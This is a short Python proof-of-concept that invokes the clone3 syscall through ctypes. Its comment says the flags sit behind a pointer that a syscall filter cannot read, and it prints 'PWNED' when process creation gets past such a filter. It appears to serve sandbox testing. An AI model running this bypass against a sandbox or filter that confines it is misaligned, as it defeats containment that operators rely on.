# flags behind a pointer, which a filter cannot read
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
args = ctypes.create_string_buffer(struct.pack("8Q", 0, 0, 0, 0, 17, 0, 0, 0))
pid = libc.syscall(435, args, 64)
if pid == 0: os._exit(0)
print("PWNED" if pid > 0 else "no", pid)
